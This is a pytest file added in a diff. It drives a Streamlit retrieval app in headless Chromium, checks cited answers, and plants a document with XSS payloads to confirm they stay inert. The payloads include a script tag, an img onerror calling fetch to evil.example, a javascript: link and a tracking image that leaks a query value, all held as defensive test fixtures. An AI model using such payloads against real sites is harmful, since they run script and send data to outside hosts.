@@ -1,0 +1,210 @@
+"""The running app in headless Debian Chromium (Playwright), on a temp copy of the seeds.
+
+One server for the module: ``streamlit run app.py`` on a free loopback port, with an index
+copied from the session's ``seed_engine`` plus one malicious document (embedded
+incrementally). Every request the page makes is logged; anything not to loopback is
+blocked and fails the test.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
+from pathlib import Path
+from urllib.parse import urlparse
+
+import pytest
+
+from retrieval import Engine, Settings
+
+ROOT = Path(__file__).resolve().parents[1]
+CHROMIUM = Path("/usr/bin/chromium")
+SCREENSHOT = ROOT / "docs" / "screenshot.png"
+CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
+                 "--disable-background-networking", "--disable-component-update",
+                 "--disable-sync"]
+# dev.jsonl e001: the answer ("27") is in 000_a20fb98d03a282a8.txt, paragraph 10.
+QUESTION = ("In the June 2020 People's Daily Online interview with Zhao Bentang, to how many "
+            "Latin American countries had China provided anti-pandemic materials?")
+MALICIOUS = (
+    "# Llama wool prices in Bolivia\n\n"
+    "Llama wool prices rose in Bolivia. <script>window.__xss = 1; alert('xss')</script> "
+    "The cooperative sold llama wool to Japan.\n\n"
+    "Buyers paid more for llama wool <img src=x onerror=\"window.__xss = 2; "
+    "fetch('http://evil.example/img')\"> in Bolivia. Click [x](javascript:window.__xss=3) "
+    "for llama prices.\n\n"
+    "The llama wool report had a tracking image ![](http://evil.example/track.png?q=secret) "
+    "and <a href=\"http://evil.example/a\">a link</a> and www.evil.example too.\n"
+)
+
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's chromium is not installed "
+                       "(make system-deps installs it)"),
+]
+
+
+def free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+def wait_healthy(url: str, proc: subprocess.Popen, log: Path, timeout: float = 120) -> None:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if proc.poll() is not None:
+            pytest.fail(f"streamlit exited with {proc.returncode}:\n{log.read_text()[-2000:]}")
+        with contextlib.suppress(OSError), urllib.request.urlopen(
+                url + "_stcore/health", timeout=2) as response:
+            if response.read() == b"ok":
+                return
+        time.sleep(0.5)
+    pytest.fail(f"streamlit did not answer within {timeout} s:\n{log.read_text()[-2000:]}")
+
+
+@pytest.fixture(scope="module")
+def app_url(seed_engine, tmp_path_factory):
+    base = tmp_path_factory.mktemp("browser")
+    corpus, index = base / "corpus", base / "index"
+    shutil.copytree(seed_engine.source_dir, corpus)
+    shutil.copytree(seed_engine.settings.index_dir, index)
+    (corpus / "evil.md").write_text(MALICIOUS, encoding="utf-8")
+    report = Engine(Settings(source_dir=corpus, index_dir=index),
+                    embedder=seed_engine.embedder).update_index()
+    assert report.added == ["evil.md"] and report.unchanged
+    port = free_port()
+    env = {**os.environ, "RETRIEVAL_SOURCE_DIR": str(corpus), "RETRIEVAL_INDEX_DIR": str(index),
+           "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1"}
+    log = base / "streamlit.log"
+    with log.open("wb") as out:
+        proc = subprocess.Popen(
+            [sys.executable, "-m", "streamlit", "run", str(ROOT / "app.py"),
+             "--server.address", "127.0.0.1", "--server.port", str(port),
+             "--server.headless", "true", "--browser.gatherUsageStats", "false",
+             "--server.fileWatcherType", "none"],
+            cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT)
+    url = f"http://127.0.0.1:{port}/"
+    try:
+        wait_healthy(url, proc, log)
+        yield url
+    finally:
+        proc.terminate()
+        try:
+            proc.wait(timeout=10)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+            proc.wait()
+
+
+@pytest.fixture
+def browser(tmp_path):
+    """A fresh Chromium profile; returns (context, outside requests, dialogs)."""
+    from playwright.sync_api import sync_playwright
+
+    outside: list[str] = []
+    dialogs: list[str] = []
+    with sync_playwright() as pw:
+        context = pw.chromium.launch_persistent_context(
+            str(tmp_path / "profile"), executable_path=str(CHROMIUM), headless=True,
+            args=CHROMIUM_ARGS, viewport={"width": 1400, "height": 1100})
+
+        def route(route):
+            host = urlparse(route.request.url).hostname or ""
+            if route.request.url.startswith(("data:", "blob:")) or host in (
+                    "127.0.0.1", "localhost"):
+                route.continue_()
+            else:
+                outside.append(route.request.url)
+                route.abort()
+
+        context.route("**/*", route)
+        context.on("page", lambda page: page.on(
+            "dialog", lambda d: (dialogs.append(d.message), d.dismiss())))
+        try:
+            yield context, outside, dialogs
+        finally:
+            context.close()
+
+
+def settled(page) -> None:
+    """Wait until the script run is over (the status widget says nothing is running)."""
+    page.wait_for_function(
+        "() => !document.querySelector('[data-testid=stStatusWidget]')", timeout=120_000)
+
+
+def test_ask_cited_answer_and_open_the_quote_in_context(app_url, browser):
+    context, outside, dialogs = browser
+    page = context.new_page()
+    page.goto(app_url)
+    box = page.get_by_placeholder("Ask a question about the articles")
+    box.wait_for(timeout=120_000)
+    box.fill(QUESTION)
+    box.press("Enter")
+    page.get_by_text("Sources", exact=True).wait_for(timeout=180_000)
+    settled(page)
+    assistant = page.get_by_test_id("stChatMessage").nth(1)
+    answer = assistant.get_by_test_id("stMarkdownContainer").first.inner_text()
+    assert "[1]" in answer and "27" in answer
+    card = assistant.get_by_test_id("stVerticalBlockBorderWrapper").first
+    assert "000_a20fb98d03a282a8.txt" in card.inner_text()
+    card.get_by_text("Open in context").click()
+    cited = card.get_by_text("⟵ cited")
+    cited.wait_for(timeout=30_000)
+    mark = card.locator(".stMarkdownColoredBackground").last
+    mark.wait_for(timeout=30_000)
+    assert "27 countries in Latin America" in mark.inner_text()
+    mark.scroll_into_view_if_needed()
+    SCREENSHOT.parent.mkdir(exist_ok=True)
+    page.screenshot(path=str(SCREENSHOT))
+    assert SCREENSHOT.stat().st_size > 20_000
+
+    card.get_by_role("button", name="Open this link").click()
+    page.wait_for_url("**/?doc=000_a20fb98d03a282a8.txt&para=*", timeout=60_000)
+    page.reload()                                  # the citation survives a refresh
+    page.get_by_text("Linked paragraph").wait_for(timeout=120_000)
+    settled(page)
+    linked = page.get_by_test_id("stVerticalBlockBorderWrapper").first
+    assert "27 countries in Latin America" in linked.locator(
+        ".stMarkdownColoredBackground").first.inner_text()
+    assert not outside and not dialogs
+
+
+def test_malicious_document_runs_no_script_and_fetches_nothing(app_url, browser):
+    context, outside, dialogs = browser
+    page = context.new_page()
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.goto(app_url)
+    page.get_by_text("Search", exact=True).wait_for(timeout=120_000)
+    page.get_by_test_id("stSidebar").get_by_text("Search", exact=True).click()
+    query = page.get_by_label("Search by meaning")
+    query.fill("llama wool prices Bolivia")
+    query.press("Enter")
+    page.get_by_text("<script>window.__xss = 1; alert('xss')</script>", exact=False).first \
+        .wait_for(timeout=120_000)
+    settled(page)
+    for expander in page.get_by_text("Open in context").all()[:3]:
+        expander.click()
+    settled(page)
+    page.wait_for_timeout(1500)
+    main = page.get_by_test_id("stMain")
+    text = main.inner_text()
+    assert "![](http://" in text.replace("\u2060", "")          # shown as text
+    assert "[x](javascript:" in text
+    assert page.evaluate("window.__xss") is None
+    assert page.evaluate(
+        "Array.from(document.images).filter(i => !i.src.startsWith(location.origin)"
+        " && !i.src.startsWith('data:')).length") == 0
+    hrefs = page.evaluate("Array.from(document.querySelectorAll('[data-testid=stMain] a'))"
+                          ".map(a => a.href)")
+    assert not [h for h in hrefs if not h.startswith(app_url)], hrefs
+    assert not dialogs
+    assert not outside, outside
+    assert not [r for r in requests if "evil.example" in r]
